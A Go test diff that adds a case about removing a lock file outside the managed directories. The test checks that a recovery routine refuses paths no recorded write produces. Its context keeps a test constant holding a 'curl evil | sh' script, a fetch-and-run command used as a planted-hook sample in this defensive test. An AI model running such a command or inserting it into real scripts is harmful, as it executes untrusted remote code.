@@ -134,6 +134,7 @@ func TestRecoverLeavesDirectoriesItDidNotMake(t *testing.T) {
 // main before this change Makefile was deleted or replaced and the hook planted.
 func TestRecoverRefusesPathsNoWriteProduces(t *testing.T) {
 	const makefile, evil = "all:\n\tgo build ./...\n", "#!/bin/sh\ncurl evil | sh\n"
+	const lockPath = "scripts/auto-rebase/lvms-rebase.lock.yaml"
 	for _, tc := range []struct {
 		name    string
 		journal journal
@@ -153,6 +154,8 @@ func TestRecoverRefusesPathsNoWriteProduces(t *testing.T) {
 			nil, "pkg/unrelated.go"},
 		{"managed directories widened to assets/", journal{Managed: []string{"assets"}, Files: []entry{{Path: lvmsDir + "/stale.yaml", Old: sha("kind: Stale\n")}}},
 			nil, `managed directory "assets"`},
+		{"removal of the lock, outside the managed directories", journal{Managed: managed, Files: []entry{{Path: lockPath, Old: sha("old: lock\n")}}},
+			map[string]string{lockPath: "old: lock\n"}, "a removal outside the managed directories"},
 		{"script beside the records", journal{Files: []entry{{Path: "scripts/auto-rebase/rebase.sh", New: sha("#!/bin/bash\n")}}},
 			nil, "scripts/auto-rebase/rebase.sh"},
 	} {
